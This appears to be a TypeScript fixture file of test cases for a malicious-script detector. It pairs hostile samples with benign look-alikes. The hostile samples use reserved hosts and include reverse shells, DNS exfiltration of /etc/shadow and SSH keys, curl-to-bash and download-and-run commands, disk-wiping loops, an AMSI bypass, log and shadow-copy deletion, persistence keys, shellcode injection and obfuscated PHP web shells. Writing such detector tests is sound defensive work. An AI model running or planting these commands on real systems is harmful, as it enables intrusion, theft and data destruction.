// What scripts do on a machine, in the shortest form that shows it, and what looks like it. Hosts are reserved ones.
import type { ScriptLanguage } from '../../../src/data/script-languages.ts'
import type { CaseTable } from '../detector-table.ts'

type Text = readonly [ScriptLanguage, string]

const HOST = 'https://files.example'

const REMOTE_CONTROL = `<?php $cmd = escapeshellcmd($_POST["c"]);
if ($how == 1) system("ls"); if ($how == 2) passthru("ls"); if ($how == 3) shell_exec("ls");
$d = opendir("."); while ($f = readdir($d)) echo $f;
move_uploaded_file($_FILES["f"]["tmp_name"], "x"); chmod("x", 0644); unlink("y");
echo php_uname(); mysql_connect("localhost", "a", "b"); $s = fsockopen("localhost", 80); echo ini_get("safe_mode"); ?>`

export const ACTS: CaseTable<Text> = {
  script_runs_program_from_memory: {
    hits: {
      'by the call of Python': [
        'python',
        'import os\nfd = os.memfd_create("")\nos.write(fd, body)\nos.execv(f"/proc/self/fd/{fd}", ["a"])',
      ],
      'by the descriptor itself': [
        'python',
        'import os\nfd = os.memfd_create("")\nos.write(fd, body)\nos.execve(fd, ["a"], {})',
      ],
      'by another path to it': [
        'python',
        'import os\nfd = os.memfd_create("")\nos.write(fd, body)\nos.execv("/dev/fd/" + str(fd), ["a"])',
      ],
      'by a path that is put together': [
        'python',
        'import os\nfd = os.memfd_create("")\nos.write(fd, body)\nos.execv("/proc/" + str(os.getpid()) + "/fd/" + str(fd), ["a"])',
      ],
      'by the number of the call': [
        'perl',
        'my $fd = syscall(319, my $n = "", 1); print {$out} $body; exec {"/proc/$$/fd/$fd"} "a";',
      ],
    },
    misses: {
      'memory that is shared': ['python', 'import os, mmap\nfd = os.memfd_create("ring")\nm = mmap.mmap(fd, 4096)'],
      'a program on a disk beside memory': [
        'python',
        'import os\nfd = os.memfd_create("log")\nos.set_inheritable(fd, True)\nos.execve("/usr/bin/less", ["less"], {})',
      ],
      'a file in memory that is sent': [
        'python',
        'import os\nfd = os.memfd_create("page")\nos.write(fd, page)\nos.sendfile(out, fd, 0, len(page))',
      ],
      'open files that are passed over': ['shell', 'ls /dev/fd/ | wc -l'],
      'open files that are counted': ['python', 'import os\nprint(len(os.listdir("/proc/self/fd/")))'],
    },
  },
  script_sends_data_as_names: {
    hits: {
      'line by line out of an encoder': [
        'shell',
        'xxd -p -c 30 /etc/passwd | while read -r h; do dig +short "$h.t.exfil.example" >/dev/null; done',
      ],
      'in a loop over pieces': [
        'shell',
        'for part in $(tar c ~/.ssh | base32 -w 50 | tr -d =); do host $part.n1.relay.example; sleep 1; done',
      ],
      'a variable that holds what was encoded': [
        'shell',
        'id=$(hostname | base64 | tr -d "=\n")\nnslookup "$id.beacon.example" 203.0.113.53',
      ],
      'whatever the next command on the line is about': [
        'shell',
        'b=$(base64 -w0 ~/.netrc); id=uuid\nnslookup $b.beacon.example',
      ],
      'line by line, with a word about hashes behind': [
        'shell',
        'xxd -p /etc/passwd | while read h; do dig $h.t.exfil.example; echo md5; done',
      ],
      'in one command': ['shell', 'nslookup $(whoami | xxd -p).c.relay.example'],
      'by the resolver of Python': [
        'python',
        'import socket, binascii\ndata = binascii.hexlify(open("/etc/shadow", "rb").read()).decode()\nfor i in range(0, len(data), 60):\n  piece = data[i:i + 60]\n  socket.gethostbyname(f"{piece}.x.relay.example")',
      ],
      'with PowerShell of another system': [
        'shell',
        'for p in $(cat secrets | od -An -tx1 | tr -d " "); do Resolve-DnsName "$p.q.relay.example"; done',
      ],
    },
    misses: {
      'hosts out of a list': ['shell', 'while read -r host; do dig +short "$host.corp.example"; done < hosts.txt'],
      'a random label against caches': ['shell', 'id=$(head -c 8 /dev/urandom | xxd -p); dig "$id.probe.example"'],
      'hosts of a loop, and a random label inside': [
        'shell',
        'for i in www ns1; do h=$(head -c 6 /dev/urandom | base64); dig $i.probe.example; done',
      ],
      'the hash of a file, looked up': ['shell', 'dig +short $(sha1sum a.bin | cut -d" " -f1).hash.cymru.example'],
      'a token beside a look-up': [
        'shell',
        'TOKEN=$(echo -n "$USER:$PW" | base64)\nfor s in web db; do nslookup $s.default.svc.cluster.example; done',
      ],
      'an answer that is decoded': [
        'shell',
        'dig +short TXT key.example | tr -d \\" | base64 -d > key.bin; host a.example',
      ],
      'the key of a mail domain': [
        'shell',
        'pub=$(openssl rsa -in k.pem -pubout -outform der | base64 -w0)\ndig +short TXT "$selector._domainkey.$domain"',
      ],
      'keys of mail by their hash': [
        'python',
        'import base64, hashlib, dns.resolver\nlabel = base64.b32encode(hashlib.sha256(b"a").digest()[:28]).decode()\ndns.resolver.resolve(label + "._openpgpkey.host.example", 61)',
      ],
    },
  },
  script_overwrites_every_disk: {
    hits: {
      'by patterns of names': [
        'shell',
        'for d in /dev/sd? /dev/nvme?n1; do dd if=/dev/urandom of=$d bs=1M & done; wait',
      ],
      'by what the system lists': ['shell', 'for d in $(lsblk -dno NAME); do shred -n1 /dev/$d; done'],
      'line by line': ['shell', 'lsblk -dnpo NAME | while read -r d; do dd if=/dev/zero of="$d" bs=4M; done'],
      'in Python': [
        'python',
        "import glob\nfor dev in glob.glob('/dev/sd?'):\n  with open(dev, 'wb') as d:\n    while True: d.write(b'\\0' * 4096)",
      ],
    },
    misses: {
      'the one that an installer was told': ['shell', 'DISK=/dev/sda\ndd if=image.raw of=$DISK bs=4M conv=fsync'],
      'all but the one of the system': ['shell', 'for d in /dev/sd[b-z]; do wipefs -a $d; done'],
      'tables of partitions are shown': ['shell', 'for d in /dev/sd?; do smartctl -H $d; fdisk -l $d; done'],
      'disks are read': [
        'python',
        "import glob\nfor dev in glob.glob('/dev/sd?'):\n  head = open(dev, 'rb').read(512)",
      ],
      'a picture of each disk': [
        'shell',
        'for d in /dev/sd?; do dd if=$d of=/mnt/backup/$(basename $d).img bs=4M; done',
      ],
    },
  },
  script_opens_reverse_shell: {
    hits: {
      'a shell over a socket of bash': ['shell', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
      'the streams of Perl': [
        'perl',
        "use IO::Socket::INET; my $c = IO::Socket::INET->new('203.0.113.7:80'); open(STDIN, '<&', $c); open(STDOUT, '>&', $c); exec '/bin/sh';",
      ],
      'the pipes of PHP': [
        'php',
        "<?php $c = stream_socket_client('tcp://203.0.113.7:80'); $h = proc_open('sh', [0 => $c, 1 => $c, 2 => $c], $p); proc_close($h);",
      ],
      'each line in Lua': [
        'lua',
        "local c = require('socket').tcp() c:connect('203.0.113.7', 80) while true do local l = c:receive() local p = io.popen(l) c:send(p:read('*a')) end",
      ],
    },
    misses: {
      'a port that is tried': ['shell', 'timeout 1 bash -c "</dev/tcp/203.0.113.7/443" && echo open'],
      'a shell that stays here': ['shell', 'bash -i'],
      'a program of PHP with pipes of its own': [
        'php',
        "<?php $c = stream_socket_client('tcp://cache.example:80'); fwrite($c, 'x'); $h = proc_open('gzip', [['pipe', 'r'], ['pipe', 'w']], $p);",
      ],
      'a client in Lua that starts nothing': [
        'lua',
        "local c = require('socket').tcp() c:connect('host.example', 80) local l = c:receive() print(l) c:send('bye')",
      ],
    },
  },
  script_downloads_and_runs: {
    hits: {
      'saved and started': [
        'powershell',
        `Invoke-WebRequest ${HOST}/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe`,
      ],
    },
    misses: {
      'saved alone': ['powershell', `Invoke-WebRequest ${HOST}/a.csv -OutFile a.csv`],
      'started alone': ['powershell', 'Start-Process notepad.exe'],
    },
  },
  script_runs_downloaded_text: {
    hits: { 'run without saving': ['powershell', `IEX (New-Object Net.WebClient).DownloadString('${HOST}/a.ps1')`] },
    misses: {
      'text that is shown': ['powershell', `(New-Object Net.WebClient).DownloadString('${HOST}/a.txt') | Write-Host`],
      'a command of its own': ['powershell', "Invoke-Expression 'Get-Date'"],
    },
  },
  script_pipes_download_to_shell: {
    hits: { 'a page into a shell': ['shell', 'curl -s http://203.0.113.7/a | bash'] },
    misses: {
      'a page into a file': ['shell', 'curl -s https://files.example/a -o a.txt'],
      'a file into a shell': ['shell', 'cat setup.sh | bash'],
    },
  },
  script_runs_download_from_temp: {
    hits: {
      'fetched, made executable, started': ['shell', 'wget http://203.0.113.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a'],
    },
    misses: {
      'fetched to be kept': ['shell', 'wget https://files.example/a.tar.gz -O /opt/a.tar.gz'],
      'started from its build': ['shell', 'chmod +x ./build/a; ./build/a'],
    },
  },
  script_bypasses_amsi: {
    hits: {
      'its failure is set': [
        'powershell',
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
      ],
    },
    misses: { 'a question about its state': ['powershell', 'Get-MpComputerStatus | Select-Object AMServiceEnabled'] },
  },
  script_loads_assembly_from_memory: {
    hits: {
      'decoded and called': [
        'powershell',
        '$b=[Convert]::FromBase64String($t); $a=[System.Reflection.Assembly]::Load($b); $a.EntryPoint.Invoke($null,$null)',
      ],
    },
    misses: {
      'a library of the disk': ['powershell', "Add-Type -Path 'C:\\Program Files\\A\\a.dll'"],
      'a library by its name': ['powershell', 'Add-Type -AssemblyName System.Windows.Forms'],
    },
  },
  script_is_web_shell: {
    hits: {
      'PHP that evaluates a parameter': ['php', '<?php @eval($_POST["x"]); ?>'],
      'PHP that starts a parameter': ['php', '<?php system($_GET["cmd"]); ?>'],
      'a name that is cut together': ['php', '<?php $f = substr_replace("sysxx", "tem", 3); $f($_POST["q"]); ?>'],
      'a name under XOR': ['php', '<?php $f = (",&,"^"___") . "tem"; $f($_GET["q"]); ?>'],
      'a name in a table': ['php', '<?php $list["k"] = "passthru"; $all[] = $list; $all[0]["k"]($_POST["q"]); ?>'],
      'a callback that the request names': ['php', '<?php $f = $_REQUEST["f"]; uasort($_POST["list"], $f); ?>'],
      'a callback that compares': ['php', '<?php array_udiff_assoc(array($_GET["q"]), array(1), "assert"); ?>'],
      'a header as code': ['php', '<?php eval(getenv("HTTP_X_TOKEN")); ?>'],
      'an element of a name of a name': ['php', `<?php $n = "_GET"; $${'{'}$n}["f"]($${'{'}$n}["q"]); ?>`],
      'PHP that offers everything': ['php', REMOTE_CONTROL],
      'a page of Java that offers everything': [
        'javascript',
        `<%@ page import="java.io.*" %><% String c = request.getParameter("c");
Process p = Runtime.getRuntime().exec(new String[] { "x" });
for (File f : new File(request.getParameter("d")).listFiles()) { out.print(f); }
new FileOutputStream(request.getParameter("t")); new File("t").delete();
out.print(System.getProperty("os.name")); %>`,
      ],
    },
    misses: {
      'PHP that shows a parameter': ['php', '<?php echo htmlspecialchars($_GET["name"]); ?>'],
      'PHP that starts a program': ['php', '<?php system("uptime"); ?>'],
      'a callback that is named outright': ['php', '<?php $ids = array_map("intval", $_POST["ids"]); ?>'],
      'a closure over what was sent': [
        'php',
        '<?php $v = $_POST["v"]; array_map(function ($x) { return $x; }, $v); ?>',
      ],
      'a callback out of a list': ['php', '<?php call_user_func($actions[$_GET["do"]]); ?>'],
      'a name out of a list': ['php', '<?php $f = $handlers["save"]; $f($_POST["q"]); ?>'],
      'two numbers under XOR': ['php', '<?php $n = $a ^ $b; echo $n; ?>'],
      'a callback of the page': ['php', '<?php usort($_POST["list"], "by_name"); ?>'],
      'a header that is shown': ['php', '<?php echo htmlspecialchars(getenv("HTTP_HOST")); ?>'],
      'a page of Java that lists a folder': [
        'javascript',
        '<%@ page import="java.io.*" %><% String d = request.getParameter("d"); for (File f : new File("/srv").listFiles()) out.print(f); %>',
      ],
      'a method of an object': ['php', '<?php $form->validate($_POST["name"]); ?>'],
      'a file manager that runs nothing': [
        'php',
        REMOTE_CONTROL.replace(/(?:system|passthru|shell_exec)\([^)]*\);/g, ''),
      ],
    },
  },
  script_disables_defences: {
    hits: { 'the scanner is switched off': ['powershell', 'Set-MpPreference -DisableRealtimeMonitoring $true'] },
    misses: { 'its state is asked': ['powershell', 'Get-MpPreference'] },
  },
  script_wipes_logs: {
    hits: { 'the log of security': ['batch', 'wevtutil cl Security'] },
    misses: { 'a log is read': ['batch', 'wevtutil qe Security /c:5'] },
  },
  script_persists: {
    hits: {
      'a key that runs at logon': [
        'batch',
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "%APPDATA%\\a.exe" /f',
      ],
    },
    misses: { 'the key is read': ['batch', 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'] },
  },
  script_destroys_recovery: {
    hits: {
      'shadow copies are deleted': ['batch', 'vssadmin delete shadows /all /quiet'],
      'every snapshot of ZFS': ['shell', 'zfs list -H -t snapshot -o name | xargs -n1 zfs destroy'],
      'every snapshot of Btrfs': [
        'shell',
        `for s in $(btrfs subvolume list -s / | awk '{print $NF}'); do btrfs subvolume delete "/$s"; done`,
      ],
    },
    misses: {
      'shadow copies are listed': ['batch', 'vssadmin list shadows'],
      'snapshots are pruned by name': [
        'shell',
        'zfs list -H -t snapshot -o name | grep auto-2023 | head -n -7 | xargs -n1 zfs destroy',
      ],
      'snapshots are counted': ['shell', 'btrfs subvolume list -s / | wc -l'],
    },
  },
  script_mines_coins: {
    hits: {
      'a miner and its pool': ['shell', './xmrig -o stratum+tcp://pool.example:3333 -u wallet --donate-level 1'],
    },
    misses: { 'a text about mining': ['shell', 'echo "mining is switched off"'] },
  },
  script_is_encoded: {
    hits: { 'the encoder of Microsoft': ['vbscript', '#@~^EAAAAA==\u007f\u007f^#~@'] },
    misses: { 'plain text': ['vbscript', 'MsgBox "hello"'] },
  },
  script_uses_system_tool_to_fetch: {
    hits: {
      certutil: ['batch', 'certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe'],
      'a package of a share without a name': ['batch', 'msiexec /qn /i \\\\203.0.113.7\\a\\a.msi'],
    },
    misses: {
      'a hash by certutil': ['batch', 'certutil -hashfile a.exe SHA256'],
      'a package of the office': ['batch', 'msiexec /qn /i \\\\10.1.2.3\\a\\a.msi'],
    },
  },
  script_injects_code: {
    hits: {
      'memory, code and a thread': [
        'powershell',
        '$p=[W]::VirtualAlloc(0,4096,0x3000,0x40); [Runtime.InteropServices.Marshal]::Copy($b,0,$p,$b.Length); [W]::CreateThread(0,0,$p,0,0,0)',
      ],
    },
    misses: { 'memory of an array': ['powershell', '$a = New-Object byte[] 4096; $a[0] = 1'] },
  },
}
